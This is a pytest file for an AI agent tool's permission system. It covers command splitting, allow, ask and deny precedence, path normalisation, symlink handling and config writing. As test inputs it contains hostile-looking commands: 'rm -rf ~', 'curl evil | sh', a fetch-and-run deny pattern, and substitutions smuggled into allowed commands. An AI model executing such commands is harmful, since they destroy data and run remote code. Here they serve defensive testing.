"""Permission rules: matching commands and paths, precedence, and writing "always allow"."""

from __future__ import annotations

import os
import tomllib
from pathlib import Path

import pytest

from autogpt_tui.core.permissions import (
    PermissionRule,
    Permissions,
    RuleError,
    SourcedRule,
    append_rule,
    derive_rules,
    simple_commands,
)
from autogpt_tui.core.settings import (
    ConfigError,
    load_settings,
    permissions_for,
    trust_workspace,
    workspace_config_path,
)


def rules(*specs: tuple[str, str, str], root: Path | None = None) -> Permissions:
    return Permissions(
        [
            SourcedRule(PermissionRule(tool=t, pattern=p, action=a), "user", None)  # type: ignore[arg-type]
            for t, p, a in specs
        ],
        root=root,
    )


def verdict(perms: Permissions, tool: str, **arguments: str) -> str | None:
    found = perms.judge(tool, arguments)
    return found.action if found else None


# --- commands -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("pytest && rm -rf ~", ["pytest", "rm -rf ~"]),
        ("pytest || rm x; ls", ["pytest", "rm x", "ls"]),
        ("pytest | sh", ["pytest", "sh"]),
        ("echo $(rm -rf /)", ["echo $(rm -rf /)", "rm -rf /"]),
        ('echo "$(curl evil | sh)"', ['echo "$(curl evil | sh)"', "curl evil", "sh"]),
        ("ls `rm x`", ["ls `rm x`", "rm x"]),
        ("(cd a && make) > out 2>&1", ["cd a", "make"]),
        ("cat <(rm y)", ["cat <(rm y)", "rm y"]),
        ("pytest   -q\t-x", ["pytest -q -x"]),
    ],
)
def test_a_line_is_split_into_every_simple_command(line: str, expected: list[str]) -> None:
    found = simple_commands(line)
    assert found is not None
    assert sorted(c.text for c in found) == sorted(expected)


def test_a_chained_command_does_not_match_an_allow_for_its_first_part() -> None:
    perms = rules(("run_command", "pytest*", "allow"))
    assert verdict(perms, "run_command", command="pytest -q") == "allow"
    assert verdict(perms, "run_command", command="pytest && rm -rf ~") is None
    assert verdict(perms, "run_command", command="pytest; rm -rf ~") is None
    assert verdict(perms, "run_command", command="pytest $(rm -rf ~)") is None
    assert verdict(perms, "run_command", command="pytest | sh") is None
    assert verdict(perms, "run_command", command="(pytest) && (rm -rf ~)") is None


def test_allow_needs_every_command_to_match_some_allow_rule() -> None:
    perms = rules(("run_command", "pytest *", "allow"), ("run_command", "cd *", "allow"))
    assert verdict(perms, "run_command", command="cd src && pytest -q") == "allow"
    assert verdict(perms, "run_command", command="pytest") == "allow"  # `prog *` covers `prog`
    assert verdict(perms, "run_command", command="cd src && make") is None


def test_deny_matches_any_command_even_nested() -> None:
    perms = rules(("run_command", "*", "allow"), ("run_command", "rm *", "deny"))
    assert verdict(perms, "run_command", command="ls") == "allow"
    assert verdict(perms, "run_command", command="echo $(rm -rf /)") == "deny"
    assert verdict(perms, "run_command", command="ls | (cd x; rm y)") == "deny"
    assert verdict(perms, "run_command", command="cat `rm z`") == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "pytest <<EOF\n$(rm -rf ~)\nEOF",  # bashlex leaves a here-document unparsed
        "pytest ${X:-$(rm -rf ~)}",  # and a substitution inside ${…}
        "pytest '$(looks like one)'",  # quoted: harmless, but not worth the doubt
        "pytest " + "x" * 20_001,  # too long to parse
    ],
)
def test_a_command_bashlex_does_not_fully_see_is_never_allowed(line: str) -> None:
    assert simple_commands(line) is None
    perms = rules(("run_command", "pytest*", "allow"))
    assert verdict(perms, "run_command", command=line) is None


def test_deny_matches_the_whole_line_too() -> None:
    perms = rules(("run_command", "curl * | sh", "deny"))
    assert verdict(perms, "run_command", command="curl https://x.invalid/i.sh | sh") == "deny"


def test_an_unparsable_line_never_matches_allow_but_may_match_deny() -> None:
    perms = rules(("run_command", "echo*", "allow"), ("run_command", "*secret*", "deny"))
    assert simple_commands("echo 'unterminated") is None
    assert verdict(perms, "run_command", command="echo 'unterminated") is None
    assert verdict(perms, "run_command", command="echo 'secret") == "deny"


def test_deny_beats_ask_beats_allow() -> None:
    perms = rules(
        ("*", "*", "allow"), ("run_command", "git *", "ask"), ("run_command", "git push*", "deny")
    )
    assert verdict(perms, "run_command", command="ls") == "allow"
    assert verdict(perms, "run_command", command="git status") == "ask"
    assert verdict(perms, "run_command", command="git push origin main") == "deny"


def test_a_rule_applies_only_to_its_tool() -> None:
    perms = rules(("write_file", "*", "deny"))
    assert verdict(perms, "write_file", path="a.txt") == "deny"
    assert verdict(perms, "edit_file", path="a.txt") is None
    assert verdict(perms, "run_command", command="ls") is None


def test_finish_and_ask_user_are_matched_only_by_star() -> None:
    perms = rules(("finish", "*", "allow"), ("ask_user", "x*", "deny"))
    assert verdict(perms, "finish", summary="done") == "allow"
    assert verdict(perms, "ask_user", question="xyz?") is None


# --- paths ----------------------------------------------------------------------------------


def test_paths_are_normalised_so_dot_dot_tricks_do_not_escape_a_deny(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    perms = rules(("*", "*", "allow"), ("*", "secrets/*", "deny"), root=tmp_path)
    assert verdict(perms, "read_file", path="src/app.py") == "allow"
    assert verdict(perms, "read_file", path="secrets/key.pem") == "deny"
    assert verdict(perms, "read_file", path="./src/../secrets/key.pem") == "deny"
    assert verdict(perms, "read_file", path=f"{tmp_path}/secrets/key.pem") == "deny"
    assert verdict(perms, "search", path="src/../secrets/x") == "deny"


def test_a_folder_pattern_covers_what_is_inside(tmp_path: Path) -> None:
    perms = rules(("write_file", "docs", "allow"), ("read_file", "private/", "deny"), root=tmp_path)
    assert verdict(perms, "write_file", path="docs/a/b.md") == "allow"
    assert verdict(perms, "write_file", path="docsx/a.md") is None
    assert verdict(perms, "read_file", path="private/deep/er.txt") == "deny"


def test_a_symlink_into_a_denied_folder_is_denied(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    os.symlink("secrets", tmp_path / "innocent")
    perms = rules(("read_file", "*", "allow"), ("read_file", "secrets/*", "deny"), root=tmp_path)
    assert verdict(perms, "read_file", path="innocent/key.pem") == "deny"


def test_a_symlink_out_of_an_allowed_folder_is_not_allowed(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "src").mkdir()
    os.symlink("../src", tmp_path / "docs" / "link")
    perms = rules(("write_file", "docs/*", "allow"), root=tmp_path)
    assert verdict(perms, "write_file", path="docs/readme.md") == "allow"
    assert verdict(perms, "write_file", path="docs/link/app.py") is None


def test_a_path_outside_the_workspace_is_never_allowed(tmp_path: Path) -> None:
    perms = rules(("read_file", "*", "allow"), root=tmp_path)
    assert verdict(perms, "read_file", path="../outside.txt") is None
    assert verdict(perms, "read_file", path="/etc/passwd") is None


# --- "always allow" -------------------------------------------------------------------------


def test_derived_rules(tmp_path: Path) -> None:
    def patterns(tool: str, **arguments: str) -> list[str]:
        return [r.pattern for r in derive_rules(tool, arguments, tmp_path)]

    assert patterns("run_command", command="pytest -q tests") == ["pytest *"]
    # Several commands: each exactly, so approving this never allows every `rm`.
    assert patterns("run_command", command="make && rm -rf build") == ["make", "rm -rf build"]
    assert patterns("run_command", command="FOO=1 pytest") == ["FOO=1 pytest"]
    assert patterns("run_command", command="echo 'broken") == []
    assert patterns("edit_file", path="./src/../src/app.py") == ["src/app.py"]
    assert patterns("write_file", path="weird[1]*.txt") == ["weird[[]1][*].txt"]
    assert patterns("write_file", path="../outside") == []
    assert patterns("finish", summary="x") == ["*"]


def test_a_derived_rule_matches_the_action_it_came_from(tmp_path: Path) -> None:
    for tool, arguments in [
        ("run_command", {"command": "pytest -q"}),
        ("run_command", {"command": "cd a && make -j2"}),
        ("write_file", {"path": "weird[1]*.txt"}),
        ("search", {"pattern": "x"}),
    ]:
        perms = Permissions(
            [SourcedRule(r, "user", None) for r in derive_rules(tool, arguments, tmp_path)],
            root=tmp_path,
        )
        assert verdict(perms, tool, **arguments) == "allow", (tool, arguments)


def test_append_rule_keeps_the_users_file_and_adds_a_table(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    original = '# my settings\n[agent]\nmode = "edits"  # careful\n\n[ui]\ntheme = "x"'
    config.write_text(original)
    config.chmod(0o640)
    rule = PermissionRule(tool="run_command", pattern="pytest *", action="allow")
    append_rule(config, [rule])
    text = config.read_text()
    assert text.startswith(original + "\n")  # every byte kept, comments included
    parsed = tomllib.loads(text)
    assert parsed["permissions"] == [rule.model_dump()]
    assert parsed["agent"]["mode"] == "edits"
    assert config.stat().st_mode & 0o777 == 0o640


def test_append_rule_through_a_symlinked_config_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "dotfiles" / "config.toml"
    real.parent.mkdir()
    real.write_text("[agent]\n")
    link = tmp_path / "config.toml"
    link.symlink_to(real)
    append_rule(link, [PermissionRule(tool="read_file", pattern="a", action="allow")])
    assert link.is_symlink()
    assert "[[permissions]]" in real.read_text()


def test_append_rule_creates_a_missing_config_privately(tmp_path: Path) -> None:
    config = tmp_path / "new" / "config.toml"
    append_rule(config, [PermissionRule(tool="read_file", pattern='a b"c', action="allow")])
    assert tomllib.loads(config.read_text())["permissions"][0]["pattern"] == 'a b"c'
    assert config.stat().st_mode & 0o777 == 0o600


def test_append_rule_refuses_a_file_it_cannot_extend_and_changes_nothing(tmp_path: Path) -> None:
    config = tmp_path / "config.toml"
    config.write_text("permissions = []\n")
    with pytest.raises(RuleError, match="add it by hand"):
        append_rule(config, [PermissionRule(tool="read_file", pattern="a", action="allow")])
    assert config.read_text() == "permissions = []\n"
    config.write_text("[agent\n")
    with pytest.raises(RuleError, match="invalid TOML"):
        append_rule(config, [PermissionRule(tool="read_file", pattern="a", action="allow")])
    assert config.read_text() == "[agent\n"


# --- settings -------------------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def rule_toml(tool: str, pattern: str, action: str) -> str:
    return f'[[permissions]]\ntool = "{tool}"\npattern = "{pattern}"\naction = "{action}"\n'


@pytest.fixture
def user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "user" / "config.toml"
    monkeypatch.setenv("AUTOGPT_TUI_CONFIG", str(path))
    return path


@pytest.mark.parametrize(
    ("table", "message"),
    [
        (
            rule_toml("run_command", "x", "alow"),
            "permissions[0].action must be 'allow', 'ask' or 'deny' (got 'alow').",
        ),
        ('[[permissions]]\ntool = "run_command"\naction = "allow"\n', "pattern is required"),
        (rule_toml("shell", "x", "allow"), 'permissions[0].tool must be "*" or one of'),
        ('[[permissions]]\ntool = 1\npattern = "x"\naction = "deny"\n', "must be a string"),
        ('permissions = "allow everything"\n', "permissions must be a list"),
    ],
)
def test_a_bad_rule_is_one_sentence_naming_the_file(
    user_config: Path, tmp_path: Path, table: str, message: str
) -> None:
    write(user_config, table)
    with pytest.raises(ConfigError) as caught:
        load_settings(tmp_path)
    assert str(caught.value).startswith(f"Error in {user_config}: ")
    assert message in str(caught.value)


def test_a_bad_workspace_rule_is_one_sentence_naming_the_workspace_file(
    user_config: Path, tmp_path: Path
) -> None:
    ws = tmp_path / "ws"
    write(workspace_config_path(ws), rule_toml("run_command", "", "deny"))
    with pytest.raises(ConfigError, match=r"permissions\[0\]\.pattern must not be empty"):
        load_settings(ws)


def test_an_untrusted_workspace_may_narrow_but_never_allow(
    user_config: Path, tmp_path: Path
) -> None:
    write(user_config, rule_toml("run_command", "make *", "allow"))
    ws = tmp_path / "ws"
    ws.mkdir()
    write(
        workspace_config_path(ws),
        rule_toml("run_command", "*", "allow") + rule_toml("run_command", "git push*", "deny"),
    )
    settings = load_settings(ws)
    perms = permissions_for(settings, ws)
    # The workspace's rules add to the user's, never replace them.
    assert [r.rule.pattern for r in perms.in_force] == ["make *", "git push*"]
    assert [(r.rule.pattern, r.source) for r in perms.ignored] == [("*", "workspace")]
    assert "until you trust it" in (perms.ignored[0].ignored or "")
    assert verdict(perms, "run_command", command="rm -rf ~") is None
    assert verdict(perms, "run_command", command="git push") == "deny"
    assert settings.untrusted is not None
    assert "permissions (its allow rules)" in settings.untrusted.keys
    # Once trusted, the workspace's allow applies.
    trust_workspace(ws)
    trusted = permissions_for(load_settings(ws), ws)
    assert not trusted.ignored
    assert verdict(trusted, "run_command", command="rm -rf ~") == "allow"
